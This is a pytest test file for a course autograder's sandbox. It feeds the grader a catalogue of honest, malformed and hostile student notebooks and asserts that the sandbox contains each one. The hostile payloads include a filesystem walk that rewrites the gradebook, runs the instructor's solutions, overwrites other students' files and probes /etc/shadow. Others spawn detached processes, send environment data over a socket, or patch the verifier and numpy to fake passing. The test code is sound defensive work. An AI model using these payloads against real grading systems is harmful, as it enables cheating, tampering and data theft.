"""The hostile catalogue, end to end: one batch of honest, malformed and cheating submissions
through ``relu-course grade`` (every kernel and verifier in its own bubblewrap sandbox).

Each case asserts its exact final score and the reason the grader gives. Across the batch:
honest students are graded exactly, the course folder outside the grader's own outputs is
byte-identical (solutions, release, config, the original submissions), the gradebook holds
no manual score the grader did not write, no process started by a submission survives, no
network connection leaves a sandbox, no grader secret reaches a notebook, and no line of a
hidden test appears in any feedback page. Then a held gradebook lock and a Ctrl-C in the
middle of a run lose no finished result, and a rerun grades only what is missing.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import html
import os
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import nbformat
import pytest

from relu_course.grading import grade as grading
from relu_course.grading import sandbox
from relu_course.grading.cells import hidden_test_lines
from relu_course.layout import course_root

pytestmark = pytest.mark.slow  # end to end: kernels, sandboxes, batches

REPO = course_root(Path(__file__).parent)
TIMEOUT = 60  # seconds per cell (TF imports on a loaded machine); a hanging case costs one
MARKER = f"relu-attack-{uuid.uuid4().hex[:12]}"  # in the argv of every process an attack leaves
SECRET = f"grader-secret-{uuid.uuid4().hex}"  # in the grader's environment only

if not sandbox.available():
    if os.environ.get("CI"):
        pytest.fail("bubblewrap must be installed in CI (.ci/run installs it)", pytrace=False)
    pytest.skip("bubblewrap (bwrap) is not installed", allow_module_level=True)


def _release(assignment: str):
    return nbformat.read(REPO / "notebooks" / assignment / f"{assignment}.ipynb", as_version=4)


def _solution(assignment: str):
    return nbformat.read(REPO / "solutions" / assignment / f"{assignment}.ipynb", as_version=4)


def _grade_id(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _index(nb, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if _grade_id(c) == grade_id)


def _answered(nb, answers: dict[str, str]):
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if _grade_id(cell) in answers:
            cell.source = answers[_grade_id(cell)]
    return nb


def _insert(nb, after: str, *sources: str, before: bool = False):
    """``nb`` with plain code cells inserted after (or before) the cell ``after``."""
    nb = copy.deepcopy(nb)
    at = _index(nb, after) + (0 if before else 1)
    for offset, source in enumerate(sources):
        nb.cells.insert(at + offset, nbformat.v4.new_code_cell(source))
    return nb


CORRECT = 'def add_one(x):\n    """Return x + 1."""\n    return x + 1\n'
WRONG = "def add_one(x):\n    return x + 2\n"

ESCAPE = r"""
def add_one(x):
    return x + 2


import json, os, sqlite3

_SKIP = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "site-packages",
         "dist-packages", ".pyenv", "share", "include"}
_reached = []
for _top, _dirs, _files in os.walk("/"):
    _dirs[:] = [] if _top.count(os.sep) > 8 else [d for d in _dirs if d not in _SKIP]
    for _name in _files:
        _path = os.path.join(_top, _name)
        try:
            if _name == "gradebook.db":  # full marks for me, nothing for the others
                _db = sqlite3.connect(_path, timeout=1)
                _db.execute("UPDATE grade SET manual_score = 99")
                _db.commit()
                _reached.append(_path)
            elif _name.endswith(".ipynb") and "/solutions/" in _path:
                for _cell in json.load(open(_path))["cells"]:  # run the instructor's answer
                    _src = "".join(_cell["source"])
                    if _cell["cell_type"] == "code" and "BEGIN SOLUTION" in _src:
                        exec(_src, globals())
                    if "BEGIN HIDDEN TESTS" in _src:
                        print(_src)
                _reached.append(_path)
            elif _name.endswith(".ipynb") and ("/submitted/" in _path or "/notebooks/" in _path):
                open(_path, "w").write("{}")  # a classmate's original, the release
                _reached.append(_path)
            elif _name in ("nbgrader_config.py", "grades.csv", "overrides.json"):
                open(_path, "a").write("\n# rewritten by a student\n")
                _reached.append(_path)
        except Exception:
            pass
for _path in ("/etc/shadow", "/root/.ssh", "/root/.bash_history"):
    if os.path.exists(_path):
        _reached.append(_path)
print("reached", len(_reached))
"""

LINGER = f'''
import subprocess, sys

_code = """
import os, time
if os.fork():
    os._exit(0)
os.setsid()
end = time.time() + 300
while time.time() < end:  # wait for the export, then rewrite my row
    time.sleep(0.5)
"""
for _ in range(2):
    subprocess.Popen([sys.executable, "-c", _code, "{MARKER}"], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
'''

LINECACHE = r"""
import linecache
import sys


def add_one(x):
    caller = sys._getframe(1).f_code.co_filename
    if "ipykernel" in caller or caller.startswith("<"):  # called from a cell: print it
        print("CALLER:", "".join(linecache.getlines(caller)))
    return x + 1
"""

LINECACHE_AFTER = (
    "import linecache\n"
    "for name, entry in list(linecache.cache.items()):\n"
    "    if ('ipykernel' in str(name) or str(name).startswith('<')) and len(entry) > 2:\n"
    "        print(name, ''.join(entry[2]))\n"
)

XMODE = r"""
%xmode Verbose


def add_one(x):
    if type(x) is int and x == -1:
        raise ValueError("let the verbose traceback show the hidden test")
    return x + 1
"""

TRANSFORMER = r"""
def add_one(x):
    return x + 2


def _neuter(lines):
    return ["pass\n"] if any("add_one" in line for line in lines) else lines


get_ipython().input_transformers_post.append(_neuter)
"""

CODE_SWAP = r"""
import relu_course.checks


class _Agreeable:
    dtype = np.int64

    def __eq__(self, other):
        return True


def add_one(x):
    return _Agreeable()


relu_course.checks.check_add_one.__code__ = (lambda *args, **kwargs: None).__code__
np.array_equal.__code__ = (lambda *args, **kwargs: True).__code__
"""

NUMPY_SHADOW = """import importlib
import os
import sys

_here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
del sys.modules["numpy"]
_real = importlib.import_module("numpy")
_real.array_equal = lambda *args, **kwargs: True
sys.modules["numpy"] = _real
"""

SWALLOW = (
    "import time\n"
    "while True:\n"
    "    try:\n"
    "        time.sleep(1000)\n"
    "    except BaseException:\n"
    "        pass\n"
)

HUGE = (
    "import base64, os\n"
    "from IPython.display import display\n"
    "display({'image/png': base64.b64encode(os.urandom(4_000_000)).decode(),\n"
    "         'text/html': '<b>flood</b>' * 400_000,\n"
    "         'text/plain': 'x' * 3_000_000}, raw=True)\n"
    "print('y' * 3_000_000)\n"
)


def _network(port: int) -> str:
    return (
        "import os, socket\n"
        "print(sorted(os.environ.items()))\n"
        "for host in ('127.0.0.1', 'localhost', '10.0.2.2'):\n"
        "    try:\n"
        f"        s = socket.create_connection((host, {port}), timeout=2)\n"
        "        s.sendall(b'exfiltrated')\n"
        "        s.close()\n"
        "        print('connected to', host)\n"
        "    except OSError as error:\n"
        "        print('no network to', host, type(error).__name__)\n"
    )


def _metadata(nb, target: str, **changes):
    nb = copy.deepcopy(nb)
    cell = nb.cells[_index(nb, target)]
    cell.metadata["nbgrader"].update(changes)
    return nb


def _welcome_cases(port: int) -> dict[str, tuple[object, float, str]]:
    """student -> (notebook, bytes or None, expected final score, reason fragment)."""
    release = _release("00_welcome")
    right = _answered(release, {"add_one": CORRECT})
    wrong = _answered(release, {"add_one": WRONG})
    cases: dict[str, tuple[object, float, str]] = {}

    def add(name, nb, score, reason=""):
        cases[name] = (nb, score, reason)

    # honest and malformed
    add("correct", right, 1)
    add("wrong", wrong, 0)
    visible_only = (
        "def add_one(x):\n    if isinstance(x, np.ndarray):\n"
        "        return (x + 1).astype(np.float32)\n    return x + 1\n"
    )
    add("visible_only", _answered(release, {"add_one": visible_only}), 0)
    add(
        "stderr_warnings",
        _answered(
            release,
            {
                "add_one": "import sys\nimport warnings\n\n\ndef add_one(x):\n"
                "    warnings.warn('add_one is being careful')\n"
                "    print('2025-01-01 I tensorflow: some log line', file=sys.stderr)\n"
                "    return x + 1\n"
            },
        ),
        1,
    )
    deleted = copy.deepcopy(right)
    del deleted.cells[_index(deleted, "test_add_one")]
    add("deleted_test", deleted, 0, "deleted")
    edited = _answered(release, {"add_one": "def add_one(x):\n    return x\n"})
    edited.cells[_index(edited, "test_add_one")].source = "pass"
    add("edited_test", edited, 0, "edited")
    add("invalid_json", b'{"cells": [', 0, "not valid notebook JSON")
    add("missing_notebook", None, 0, "notebook missing")
    add("empty_file", b"", 0, "empty file")
    add("extra_files", right, 1)
    add(
        "monkeypatch",
        _answered(
            release,
            {
                "add_one": "import relu_course.checks\n\n\nclass _Agreeable:\n"
                "    dtype = np.int64\n\n    def __eq__(self, other):\n        return True\n\n\n"
                "def add_one(x):\n    return _Agreeable()\n\n\n"
                "check_add_one = lambda candidate: None\n"
                "relu_course.checks.check_add_one = check_add_one\n"
                "np.array_equal = lambda *args, **kwargs: True\n"
            },
        ),
        0,
        "re-verification",
    )
    # hostile: out of the sandbox
    add("escape", _answered(release, {"add_one": ESCAPE}), 0)
    add("linger", _insert(right, "add_one", LINGER), 1)
    add("network_env", _insert(right, "add_one", _network(port)), 1)
    # hostile: steering the tests or the verifier
    add("input_transformer", _answered(release, {"add_one": TRANSFORMER}), 0, "re-verification")
    add("code_swap", _answered(release, {"add_one": CODE_SWAP}), 0)
    shadow = "def add_one(x):\n    return x + 1 if np.ndim(x) == 0 else x\n"
    add("numpy_shadow", _answered(release, {"add_one": shadow}), 0)
    # hostile: reading hidden tests back into the feedback
    add(
        "linecache_leak",
        _insert(_answered(release, {"add_one": LINECACHE}), "test_add_one", LINECACHE_AFTER),
        1,
    )
    add("xmode_verbose", _answered(release, {"add_one": XMODE}), 0)
    # robustness: dying, hanging, flooding
    add("exit_after_test", _insert(right, "test_add_one", "import os\nos._exit(1)\n"), 1)
    add(
        "exit_in_answer",
        _answered(release, {"add_one": CORRECT + "\nimport os\nos._exit(0)\n"}),
        0,
        "kernel died in cell",
    )
    add("hang_swallow", _insert(right, "test_add_one", SWALLOW, before=True), 1)
    add("huge_outputs", _insert(right, "add_one", HUGE), 1)
    # metadata tampering
    add(
        "grade_false",
        _metadata(right, "test_add_one", grade=False, points=100),
        1,
        "metadata restored",
    )
    extra = _insert(right, "test_add_one", "print('free points')")
    extra.cells[_index(extra, "test_add_one") + 1].metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "bonus",
        "locked": False,
        "points": 5,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    add("extra_grade_cell", extra, 1, "not in the release")
    add(
        "grade_id_changed",
        _metadata(right, "test_add_one", grade_id="test_mine"),
        1,
        "grade_id changed",
    )
    to_markdown = copy.deepcopy(wrong)
    test = to_markdown.cells[_index(to_markdown, "test_add_one")]
    to_markdown.cells[_index(to_markdown, "test_add_one")] = nbformat.v4.new_markdown_cell(
        test.source, metadata=test.metadata
    )
    add("test_to_markdown", to_markdown, 0, "cell type")
    return cases


RELU_ANSWERS = {
    "relu_np": "def relu_np(x):\n    return np.maximum(x, np.zeros((), dtype=x.dtype))\n",
    "relu_grad": "def relu_grad(x):\n    return (x > 0).astype(x.dtype)\n",
    "relu_tf": "def relu_tf(x):\n    return tf.abs(x)\n",
}


def _relu_full():
    """The release with every answer cell taken from the solution."""
    solution = _solution("01_relu")
    answers = {
        _grade_id(c): c.source
        for c in solution.cells
        if c.get("metadata", {}).get("nbgrader", {}).get("solution")
    }
    return _answered(_release("01_relu"), answers)


def _write(folder: Path, name: str, content) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    if content is None:
        (folder / "README.txt").write_text("forgot the notebook\n")
    elif isinstance(content, bytes):
        (folder / name).write_bytes(content)
    else:
        nbformat.write(content, folder / name)


def _tree_digest(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        digest.update(str(path.relative_to(folder)).encode())
        if path.is_file() and not path.is_symlink():
            digest.update(path.read_bytes())
    return digest.hexdigest()


def make_course(tmp: Path, assignments=("00_welcome", "01_relu")) -> Path:
    """A scratch course folder: config, solutions and release of the given assignments."""
    course = tmp / "course"
    course.mkdir()
    shutil.copy(REPO / "nbgrader_config.py", course)
    for assignment in assignments:
        shutil.copytree(REPO / "solutions" / assignment, course / "solutions" / assignment)
        shutil.copytree(REPO / "notebooks" / assignment, course / "notebooks" / assignment)
    return course


def _instructor_files(course: Path) -> dict[str, str]:
    return {
        "solutions": _tree_digest(course / "solutions"),
        "notebooks": _tree_digest(course / "notebooks"),
        "config": hashlib.sha256((course / "nbgrader_config.py").read_bytes()).hexdigest(),
    }


def _processes_with(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if marker.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


class _Listener:
    """A TCP server on the grader's loopback that counts whoever reaches it."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.running = False
        self.thread.join(timeout=5)
        self.server.close()


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("attacks")
    course = make_course(tmp)
    submitted = tmp / "submitted"
    listener = _Listener()
    cases = _welcome_cases(listener.port)
    for student, (content, _, _) in cases.items():
        _write(submitted / student / "00_welcome", "00_welcome.ipynb", content)
    extra = submitted / "extra_files" / "00_welcome"
    (extra / "notes.md").write_text("my notes\n")
    (extra / "helper.py").write_text("raise SystemExit('never imported')\n")
    (extra / "data").mkdir()
    (extra / "data" / "x.csv").write_text("1,2\n")
    (extra / ".ipynb_checkpoints").mkdir()
    (extra / ".ipynb_checkpoints" / "00_welcome-checkpoint.ipynb").write_text("{not json")
    (submitted / "escape" / "00_welcome" / "solutions_link").symlink_to(course / "solutions")
    (submitted / "numpy_shadow" / "00_welcome" / "numpy.py").write_text(NUMPY_SHADOW)
    relu = {
        "relu_full": _relu_full(),
        "relu_partial": _answered(_release("01_relu"), RELU_ANSWERS),
        "relu_segfault": _insert(
            _relu_full(), "test_relu_np", "import ctypes\nctypes.string_at(0)\n"
        ),
    }
    for student, nb in relu.items():
        _write(submitted / student / "01_relu", "01_relu.ipynb", nb)
    before = {"submitted": _tree_digest(submitted), **_instructor_files(course)}
    os.environ["RELU_GRADER_SECRET"] = SECRET
    notes: list[str] = []
    start = time.monotonic()
    try:
        results = grading.grade(
            course,
            submitted,
            jobs=2,
            timeout=TIMEOUT,
            csv_path=tmp / "grades.csv",
            progress=False,
            notes=notes,
        )
    finally:
        os.environ.pop("RELU_GRADER_SECRET", None)
        listener.close()
    seconds = time.monotonic() - start
    time.sleep(1)  # let the kernel's PID namespaces finish tearing down
    return {
        "tmp": tmp,
        "course": course,
        "submitted": submitted,
        "cases": cases,
        "before": before,
        "results": {(r.student, r.assignment): r for r in results},
        "csv": tmp / "grades.csv",
        "listener": listener,
        "notes": notes,
        "seconds": seconds,
        "leftovers": _processes_with(MARKER),
    }


def _case_ids():
    return list(_welcome_cases(0))


def _text(result) -> str:
    return " | ".join(
        [result.status, *map(str, result.tampering), *result.disagreements, *result.notes]
        + [e.message for e in result.exercises]
    )


@pytest.mark.parametrize("student", _case_ids())
def test_catalogue_score_and_reason(batch, student):
    _, expected, reason = batch["cases"][student]
    result = batch["results"][(student, "00_welcome")]
    text = _text(result)
    assert result.score == expected, f"{student}: {result.score} ({text})"
    assert result.max_score == 1, text
    if reason:
        assert reason in text, f"{student}: {reason!r} not in {text!r}"


def test_honest_and_partial_relu_scores(batch):
    full = batch["results"][("relu_full", "01_relu")]
    assert full.score == full.max_score > 0, _text(full)
    partial = batch["results"][("relu_partial", "01_relu")]
    scores = {e.grade_id: e.final for e in partial.exercises}
    assert scores.pop("test_relu_np") == 2 and scores.pop("test_relu_grad") == 2, _text(partial)
    assert set(scores.values()) == {0}, _text(partial)  # relu_tf wrong, the rest stubs


def test_dead_kernel_keeps_the_exercises_that_ran(batch):
    result = batch["results"][("relu_segfault", "01_relu")]
    scores = {e.grade_id: e.final for e in result.exercises}
    assert scores.pop("test_relu_np") == 2, _text(result)
    assert scores and set(scores.values()) == {0}, _text(result)
    later = [e for e in result.exercises if e.grade_id != "test_relu_np"]
    assert all("kernel died in cell" in e.message for e in later), [e.message for e in later]


def test_every_submission_finished_and_was_sandboxed(batch):
    expected = {(s, "00_welcome") for s in batch["cases"]} | {
        (s, "01_relu") for s in ("relu_full", "relu_partial", "relu_segfault")
    }
    assert set(batch["results"]) == expected
    assert all(r.sandboxed for r in batch["results"].values())
    rows = list(csv.DictReader(open(batch["csv"], encoding="utf-8")))
    assert {(r["student"], r["assignment"]) for r in rows} == expected
    assert {
        "student",
        "assignment",
        "score",
        "nbgrader_score",
        "status",
        "tampering",
        "integrity",
    } <= set(rows[0])
    assert batch["csv"].with_suffix(".nbgrader.csv").is_file()
    assert not batch["notes"], batch["notes"]


def test_instructor_files_and_originals_unchanged(batch):
    course = batch["course"]
    after = {"submitted": _tree_digest(batch["submitted"]), **_instructor_files(course)}
    assert after == batch["before"]
    allowed = {
        "solutions",
        "notebooks",
        "nbgrader_config.py",
        "gradebook.db",
        ".relu-course",
        "autograded",
        "feedback",
    }
    assert {p.name for p in course.iterdir()} <= allowed


def test_gradebook_holds_only_the_graders_manual_scores(batch):
    with sqlite3.connect(batch["course"] / "gradebook.db") as db:
        manual = db.execute(
            "SELECT manual_score FROM grade WHERE manual_score IS NOT NULL"
        ).fetchall()
    assert {m for (m,) in manual} <= {0.0}
    flagged = sum(len(r.disagreements) for r in batch["results"].values())
    assert len(manual) == flagged


def test_no_process_survives_the_batch(batch):
    assert batch["leftovers"] == []
    assert batch["results"][("linger", "00_welcome")].score == 1


def test_no_network_and_no_grader_environment_in_the_sandbox(batch):
    assert batch["listener"].connections == 0
    course = batch["course"]
    for path in [*course.glob("autograded/**/*.ipynb"), *course.glob("feedback/**/*.html")]:
        assert SECRET not in path.read_text(encoding="utf-8", errors="replace"), path


def test_no_hidden_test_line_in_any_feedback(batch):
    course = batch["course"]
    pages = sorted(course.glob("feedback/*/*/*.html"))
    assert len(pages) >= len(batch["cases"]) - 3  # unreadable notebooks get no page
    for assignment in ("00_welcome", "01_relu"):
        source = _solution(assignment)
        release_text = " ".join(
            " ".join(line.split())
            for c in _release(assignment).cells
            for line in c.source.splitlines()
        )
        secrets = {line for line in hidden_test_lines(source) if line not in release_text}
        assert secrets
        for page in course.glob(f"feedback/*/{assignment}/*.html"):
            text = " ".join(html.unescape(page.read_text(encoding="utf-8")).split())
            leaked = [line for line in secrets if line in text]
            assert not leaked, f"{page}: {leaked}"


def test_attacks_that_run_hidden_tests_leak_nothing_into_autograded_notebooks(batch):
    source = _solution("00_welcome")
    secrets = hidden_test_lines(source)
    for student in ("linecache_leak", "xmode_verbose", "escape"):
        nb = nbformat.read(
            batch["course"] / "autograded" / student / "00_welcome" / "00_welcome.ipynb",
            as_version=4,
        )
        outputs = " ".join(" ".join(str(o).split()) for c in nb.cells for o in c.get("outputs", []))
        assert not [line for line in secrets if line in outputs], student


def test_outputs_of_every_kind_are_bounded(batch):
    course = batch["course"]
    for student in ("huge_outputs",):  # 3 MB of text, a 5 MB PNG, 4 MB of HTML
        autograded = course / "autograded" / student / "00_welcome" / "00_welcome.ipynb"
        assert autograded.stat().st_size < 2_500_000, student
        feedback = course / "feedback" / student / "00_welcome" / "00_welcome.html"
        assert feedback.stat().st_size < 3_000_000, student


def test_a_hang_costs_one_time_limit_and_the_test_still_runs(batch):
    result = batch["results"][("hang_swallow", "00_welcome")]
    assert result.score == 1
    assert any("time limit in cell" in note for note in result.notes), result.notes


def test_manual_score_on_a_flagged_exercise_survives_a_regrade(batch, tmp_path):
    from nbgrader.api import Gradebook

    course = batch["course"]
    url = grading._db_url(course)
    with Gradebook(url) as gb:  # what formgrader does when an instructor saves a score
        grade = gb.find_grade("test_add_one", "00_welcome", "00_welcome", "monkeypatch")
        assert grade.manual_score == 0.0 and grade.needs_manual_grade
        grade.manual_score, grade.needs_manual_grade = 0.5, False
        grade = gb.find_grade("test_add_one", "00_welcome", "00_welcome", "correct")
        grade.manual_score, grade.needs_manual_grade = 0.25, False
        gb.db.commit()
    again = tmp_path / "again"
    for student in ("monkeypatch", "correct"):
        shutil.copytree(batch["submitted"] / student, again / student)
    results = {
        r.student: r for r in grading.grade(course, again, jobs=1, timeout=TIMEOUT, progress=False)
    }
    assert results["monkeypatch"].score == 0.5 and results["correct"].score == 0.25
    with Gradebook(url) as gb:
        assert (
            gb.find_grade("test_add_one", "00_welcome", "00_welcome", "monkeypatch").manual_score
            == 0.5
        )
        gb.find_grade("test_add_one", "00_welcome", "00_welcome", "correct").manual_score = None
        gb.db.commit()


def test_locked_gradebook_loses_nothing_and_rerun_grades_only_the_new(batch, monkeypatch):
    course, tmp = batch["course"], batch["tmp"]
    round2 = tmp / "round2"
    for student in ("wrong", "visible_only"):
        shutil.copytree(batch["submitted"] / student, round2 / student)
    _write(
        round2 / "late" / "00_welcome",
        "00_welcome.ipynb",
        _answered(_release("00_welcome"), {"add_one": CORRECT}),
    )
    graded: list[str] = []
    real = grading._grade_one

    def counting(root, state, assignment, student, *args):
        graded.append(student)
        return real(root, state, assignment, student, *args)

    monkeypatch.setattr(grading, "_grade_one", counting)
    lock = sqlite3.connect(course / "gradebook.db", timeout=1)
    lock.execute("BEGIN EXCLUSIVE")
    notes: list[str] = []
    try:
        results = grading.grade(
            course,
            round2,
            jobs=1,
            timeout=TIMEOUT,
            csv_path=tmp / "locked.csv",
            progress=False,
            settings=grading.Settings(timeout=TIMEOUT, db_timeout=2),
            notes=notes,
        )
    finally:
        lock.rollback()
        lock.close()
    by = {r.student: r for r in results}
    assert by["wrong"].status == "graded" and by["visible_only"].status == "graded"  # kept
    assert by["late"].status.startswith("not graded") and "locked" in by["late"].status
    assert any("locked" in n for n in notes), notes
    rows = {r["student"]: r for r in csv.DictReader(open(tmp / "locked.csv", encoding="utf-8"))}
    assert set(rows) == {"wrong", "visible_only", "late"}
    assert graded == []  # nothing could be autograded while the lock was held
    again = grading.grade(
        course, round2, jobs=1, timeout=TIMEOUT, csv_path=tmp / "unlocked.csv", progress=False
    )
    assert graded == ["late"]
    assert {r.student: r.score for r in again} == {"late": 1, "visible_only": 0, "wrong": 0}


def test_ctrl_c_keeps_finished_results_and_leaves_no_process(batch):
    course, tmp = batch["course"], batch["tmp"]
    round3 = tmp / "round3"
    right = _answered(_release("00_welcome"), {"add_one": CORRECT})
    _write(round3 / "a_first" / "00_welcome", "00_welcome.ipynb", right)
    marker = f"{MARKER}-ctrl-c"
    hang = _insert(
        right,
        "add_one",
        f"import subprocess, sys, time\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', '{marker}'])\ntime.sleep(300)\n",
    )
    _write(round3 / "b_hangs" / "00_welcome", "00_welcome.ipynb", hang)
    results_dir = course / grading.STATE / "grading" / "results" / "00_welcome"
    (results_dir / "a_first.json").unlink(missing_ok=True)
    command = [
        sys.executable,
        "-m",
        "relu_course",
        "grade",
        "00_welcome",
        "--course",
        str(course),
        "--submitted",
        str(round3),
        "--jobs",
        "1",
        "--timeout",
        "200",
        "--csv",
        str(tmp / "ctrl_c.csv"),
    ]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 600
    while not (results_dir / "a_first.json").is_file() or not _processes_with(marker):
        assert process.poll() is None and time.monotonic() < deadline, process.communicate()
        time.sleep(0.5)
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=60)
    assert process.returncode == 130, out + err
    assert "interrupted" in err and "run the same command" in err
    rows = {r["student"]: r for r in csv.DictReader(open(tmp / "ctrl_c.csv", encoding="utf-8"))}
    assert rows["a_first"]["score"] == "1" and rows["a_first"]["status"] == "graded"
    assert "b_hangs" not in rows or rows["b_hangs"]["status"].startswith("not graded")
    assert not (results_dir / "b_hangs.json").exists()
    time.sleep(1)
    assert _processes_with(marker) == []
